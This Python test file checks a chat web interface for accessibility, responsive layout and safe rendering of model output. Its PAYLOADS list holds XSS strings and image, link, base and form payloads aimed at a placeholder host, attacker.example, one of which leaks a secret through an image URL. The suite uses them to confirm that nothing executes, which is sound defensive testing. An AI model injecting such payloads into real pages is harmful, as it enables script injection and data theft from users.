"""Screen readers, keyboards, small screens, slow phones, and text that would like to be HTML."""

from __future__ import annotations

from typing import Any

import pytest

from tests.browser.driver import Browser
from tests.browser.gateway_process import GatewayProcess

PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 2'>",
    "<svg onload=window.pwned=3>",
    "<iframe src='javascript:parent.pwned = 4'></iframe>",
    "[click](javascript:window.pwned=5)",
    "![leak](https://attacker.example/?q=secret)",
    "<a href='https://attacker.example/'>free</a>",
    "<style>body { display: none }</style>",
    "<base href='https://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<form action='https://attacker.example/'><input name=q></form>",
    "<object data='https://attacker.example/x'></object>",
    "<link rel=stylesheet href='https://attacker.example/x.css'>",
    "<math><mtext><img src=x onerror=window.pwned=6></mtext></math>",
    "&lt;img src=x onerror=window.pwned=7&gt;",
    "```html\n<img src=x onerror='window.pwned = 8'>\n",
    '```" onmouseover="window.pwned=9\nx\n',
    "</article></main><script>window.pwned = 10</script>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<template><img src=x onerror=window.pwned=11></template>",
]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(browser: Browser, plain: GatewayProcess, scheme: str) -> None:
    found = browser.play("looks", "axeStates", url=plain.url, context={"colorScheme": scheme})

    assert found == {state: [] for state in ("empty", "streaming", "stopped", "done", "error")}


def test_document_has_what_assistive_technology_looks_for(
    browser: Browser, plain: GatewayProcess
) -> None:
    seen = browser.play("looks", "structure", url=plain.url)

    assert (seen["lang"], seen["title"]) == ("en", "Sluicegate chat")
    assert "width=device-width" in seen["viewport"]
    assert "user-scalable" not in seen["viewport"]
    assert "maximum-scale" not in seen["viewport"]
    assert (seen["landmarks"], seen["headings"], seen["noscript"], seen["log"]) == ([1, 1], 1, 1, 1)
    assert seen["inline"] == 0
    assert seen["boxFont"] >= 16


def test_screen_reader_hears_of_an_answer_twice_not_at_every_token(
    browser: Browser, plain: GatewayProcess
) -> None:
    seen = browser.play("chat", "answer", url=plain.url, prompt="[[n=40]] [[delay=0.01]]")

    assert seen["said"] == ["The answer is being written.", "Answer complete."]
    assert seen["logChanges"] == 0


@pytest.mark.parametrize("width", [320, 360])
@pytest.mark.parametrize(
    "answer",
    ["x" * 200, "```\n" + "y = 1; " * 40 + "\n```", "word " * 40],
    ids=["word", "code", "prose"],
)
def test_small_screen_never_scrolls_sideways(
    browser: Browser, plain: GatewayProcess, width: int, answer: str
) -> None:
    seen = browser.play(
        "looks", "narrow", url=plain.url, width=width, prompt=f"{'q' * 200} [[text={answer}]]"
    )

    assert seen["pageOverflow"] <= 0
    assert seen["logOverflow"] <= 0
    assert (seen["small"], seen["outside"]) == ([], [])
    assert seen["boxBottom"] >= 0


def test_nothing_moves_for_those_who_asked_for_stillness(
    browser: Browser, plain: GatewayProcess
) -> None:
    moving = browser.play("looks", "still", url=plain.url)
    still = browser.play("looks", "still", url=plain.url, context={"reducedMotion": "reduce"})

    assert moving > 0
    assert still == 0


@pytest.mark.serial
def test_long_answer_never_freezes_a_slow_phone(browser: Browser, plain: GatewayProcess) -> None:
    seen = browser.play("looks", "long", url=plain.url, tokens=1500, slowdown=4)

    assert seen["length"] > 5000
    assert seen["longest"] < 250


def test_reader_who_scrolled_up_is_left_alone(browser: Browser, plain: GatewayProcess) -> None:
    seen = browser.play("looks", "scrolledUp", url=plain.url)

    assert seen["follows"] < 60
    assert seen["jump"] is True
    assert seen["left"] == 40
    assert seen["end"] < 60


def test_model_text_never_becomes_html(browser: Browser, plain: GatewayProcess) -> None:
    seen: dict[str, Any] = browser.play(
        "looks", "hostile", url=plain.url, payloads=PAYLOADS, timeout_s=80
    )

    shown = [
        text for text, payload in zip(seen["texts"], PAYLOADS, strict=True) if "```" not in payload
    ]
    assert shown == [payload for payload in PAYLOADS if "```" not in payload]
    assert (seen["pwned"], seen["dialogs"], seen["violations"]) == (None, [], [])
    assert seen["foreign"] == []
    harmless = {
        "article",
        "button",
        "code",
        "div",
        "figcaption",
        "figure",
        "footer",
        "p",
        "pre",
        "span",
    }
    assert set(seen["made"]) <= harmless
    assert seen["attributes"] == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_an_example_of_the_api_page_is_run_and_shown_as_it_arrives(
    browser: Browser, plain: GatewayProcess, scheme: str
) -> None:
    seen = browser.play("looks", "docs", url=plain.url, context={"colorScheme": scheme})

    assert seen["problems"] == seen["violations"] == []
    assert 0 < seen["early"] < len(seen["whole"])
    assert seen["whole"].rstrip().endswith("data: [DONE]")
    assert seen["status"].startswith("200")
